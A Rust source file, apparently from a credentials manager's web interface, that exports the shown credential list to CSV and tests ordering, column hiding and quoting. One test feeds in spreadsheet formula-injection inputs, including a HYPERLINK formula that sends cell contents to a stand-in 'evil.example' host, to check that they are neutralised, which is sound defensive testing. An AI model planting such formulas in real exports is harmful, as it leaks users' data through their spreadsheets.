//! The list as a file of comma-separated values, for the programs that read such files.

use std::sync::Arc;

use leptos::prelude::*;
use wavepass_core::credentials::{CredentialsSummary, Day, Description, StoredRegistry};
use wavepass_core::timestamp::{Timestamp, Told};

use super::arrange::Line;
use super::audit_chips::Chip;
use super::contents::Contents;
use super::query::{Column, Columns, ListQuery};
use crate::browser;
use crate::csv_file;
use crate::shell::routes::Place;
use crate::ui::handlers::pressed;

/// The names of the columns, and with which column of the list each is hidden.
const HEAD: [(&str, Option<Column>); 11] = [
    ("Name", None),
    ("Provider", Some(Column::Provider)),
    ("Registry server", Some(Column::Registry)),
    ("User name", Some(Column::UserName)),
    ("Description", None),
    ("Secret ends", None),
    ("Last used", Some(Column::LastUsed)),
    ("Created", None),
    ("Last updated", Some(Column::Updated)),
    ("Needs attention", None),
    ("ID", None),
];

/// Takes along what is shown.
#[component]
pub(crate) fn Export(
    contents: RwSignal<Arc<Contents>>,
    lines: Memo<Vec<Line>>,
    asked: RwSignal<ListQuery>,
    place: Place,
) -> impl IntoView {
    let name = file_name(&place);
    let export = move || {
        let columns = asked.with_untracked(|asked| asked.columns);
        let text =
            contents.with_untracked(|it| lines.with_untracked(|lines| csv(lines, it, columns)));
        browser::download(&name, &text);
    };
    view! {
        <button type="button" class="wp-link" on:click=pressed(export)>
            "Download as CSV"
        </button>
    }
}

/// The rows that are shown, in their order, without the columns that are hidden. Times are in UTC,
/// in ISO 8601.
fn csv(lines: &[Line], contents: &Contents, columns: Columns) -> String {
    let rows = lines.iter().filter_map(|line| match line {
        Line::Row(place) => Some((contents.rows.get(*place)?, contents.chips.get(*place)?)),
        Line::Heading(..) => None,
    });
    let rows = rows.map(|(row, chips)| cells(row, chips));
    let head = HEAD.map(|(name, _)| name.to_owned());
    csv_file::written(std::iter::once(head).chain(rows).map(|row| {
        let cells = row.into_iter().zip(HEAD);
        let cells = cells.filter(move |(_, (_, of))| of.is_none_or(|column| columns.has(column)));
        cells.map(|(cell, _)| cell)
    }))
}

/// The name of the file.
fn file_name(place: &Place) -> String {
    match place {
        Place::Personal => "credentials.csv".to_owned(),
        Place::Workspace { org, workspace } => format!("credentials-{org}-{workspace}.csv"),
    }
}

fn cells(row: &CredentialsSummary, chips: &[Chip]) -> [String; 11] {
    let description = row.description.as_deref().map(Description::read);
    let (words, expires) = description.map_or((String::new(), None), |it| (it.words, it.expires));
    let registry = row.registry.as_ref().and_then(StoredRegistry::text);
    let time = |told: Told| told.at().map(Timestamp::to_iso).unwrap_or_default();
    let warnings: Vec<_> = chips.iter().filter_map(Chip::warning).collect();
    [
        row.name.clone(),
        row.provider.label().to_owned(),
        registry.unwrap_or_default().to_owned(),
        row.user_name.clone().unwrap_or_default(),
        words,
        expires.map(Day::to_iso).unwrap_or_default(),
        match row.last_used {
            Told::Null => "never".to_owned(),
            told => time(told),
        },
        time(row.created),
        time(row.updated),
        warnings.join(" "),
        row.id.clone().unwrap_or_default(),
    ]
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};
    use wavepass_core::platform::reader::Listed;
    use wavepass_core::registry::wave_setup::WaveSetup;
    use wavepass_core::wave::audit::Auditor;
    use wavepass_core::wave::credential::StoredCredential;

    use super::*;
    use crate::credentials::list::audit_chips::chips;
    use crate::credentials::list::query::OPTIONAL;
    #[cfg(target_arch = "wasm32")]
    use wasm_bindgen_test::wasm_bindgen_test as test;

    fn contents(rows: &[Value]) -> Contents {
        let answer = json!({ CredentialsSummary::LIST: rows });
        let listed = Listed::read(&answer, CredentialsSummary::LIST, CredentialsSummary::read);
        let rows = listed.unwrap().rows;
        let setup = WaveSetup::default();
        let stored: Vec<_> = rows.iter().map(StoredCredential::from).collect();
        let auditor = Auditor::new(&stored, &setup);
        let chips = stored
            .iter()
            .map(|row| chips(&auditor.examine(row)))
            .collect();
        Contents {
            rows,
            chips,
            ..Contents::default()
        }
    }

    fn registry(name: &str, keys: &Value) -> Value {
        json!({"id": "1", "name": name, "provider": "container-reg", "keys": keys})
    }

    fn read(text: &str) -> Vec<Vec<String>> {
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let rows = reader.records().map(Result::unwrap);
        rows.map(|row| row.iter().map(str::to_owned).collect())
            .collect()
    }

    #[test]
    fn what_is_shown_is_written_in_its_order_and_headings_are_not() {
        let contents = contents(&[
            registry("first", &json!({"registry": "quay.io", "userName": "me"})),
            json!({"id": "2", "name": "second", "provider": "aws", "lastUsed": null,
                "dateCreated": "2026-11-30T08:00:00Z"}),
        ]);
        let lines = [
            Line::Heading("Amazon Web Services".to_owned(), 1),
            Line::Row(1),
            Line::Row(0),
            Line::Row(7),
        ];
        let text = csv(&lines, &contents, Columns::default());
        assert!(text.starts_with("Name,Provider,Registry server,"), "{text}");
        let rows = read(&text);
        let names: Vec<_> = rows.iter().map(|row| row[0].as_str()).collect();
        assert_eq!(names, ["second", "first"]);
        assert_eq!(rows[0][6], "never");
        assert_eq!(rows[0][7], "2026-11-30T08:00:00Z");
        assert_eq!(rows[1][2..4], ["quay.io", "me"]);
        assert_eq!(rows[1][6], "", "what is not told is not claimed");
    }

    #[test]
    fn a_column_that_is_hidden_is_not_written_and_what_the_list_says_without_it_is() {
        let contents = contents(&[json!({
            "id": "1", "name": "first", "provider": "container-reg", "lastUsed": null,
            "description": "Pulls [expires 2099-01-31]",
            "keys": {"registry": "https://quay.io", "userName": "me"},
        })]);
        let written = |columns| csv(&[Line::Row(0)], &contents, columns);
        let all = read(&written(Columns::default()));
        for column in OPTIONAL {
            let text = written(Columns::default().with(column, false));
            let (head, _) = text.split_once('\n').unwrap();
            let names: Vec<_> = head.split(',').collect();
            let rest = HEAD.iter().filter(|(_, of)| *of != Some(column));
            assert_eq!(names, rest.map(|(name, _)| *name).collect::<Vec<_>>());
            assert!(!names.contains(&column.label()), "{column:?}");
            let mut cells = all[0].clone();
            cells.remove(HEAD.iter().position(|(_, of)| *of == Some(column)).unwrap());
            assert_eq!(read(&text), [cells]);
        }
        let name_alone = OPTIONAL
            .iter()
            .fold(Columns::default(), |all, column| all.with(*column, false));
        let text = written(name_alone);
        assert!(
            text.starts_with("Name,Description,Secret ends,Created,Needs attention,ID\n"),
            "{text}"
        );
        assert!(text.contains("first,Pulls,2099-01-31,,"), "{text}");
        assert!(text.contains("never matches"), "{text}");
    }

    #[test]
    fn warnings_are_written_and_good_news_are_not() {
        let contents = contents(&[
            registry(
                "bad",
                &json!({"registry": "https://quay.io", "userName": "me"}),
            ),
            registry("one", &json!({"registry": "ghcr.io", "userName": "me"})),
            registry("two", &json!({"registry": "ghcr.io", "userName": "me"})),
        ]);
        let lines: Vec<_> = (0..3).map(Line::Row).collect();
        let rows = read(&csv(&lines, &contents, Columns::default()));
        assert!(rows[0][9].contains("never matches"), "{:?}", rows[0]);
        assert_eq!(rows[1][9], "", "used first");
        assert!(rows[2][9].contains("Never used: one"), "{:?}", rows[2]);
    }

    #[test]
    fn no_cell_is_taken_for_a_formula() {
        for text in [
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "＝1",
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
        ] {
            let contents = contents(&[registry(text, &json!({"userName": text}))]);
            let rows = read(&csv(&[Line::Row(0)], &contents, Columns::default()));
            assert_eq!(rows[0][0], format!("'{text}"));
            assert_eq!(rows[0][3], format!("'{text}"));
        }
    }

    #[test]
    fn what_is_no_formula_and_what_has_to_be_quoted_is_read_again_as_it_was() {
        for text in [
            "a=1",
            "quay",
            "'quoted'",
            "say \"hi\"",
            "a,b;c",
            "two\nlines",
            "ü 漢",
            "1-2",
        ] {
            let contents = contents(&[registry(text, &json!({"userName": "me"}))]);
            let rows = read(&csv(&[Line::Row(0)], &contents, Columns::default()));
            assert_eq!(rows[0][0], text);
        }
    }
}
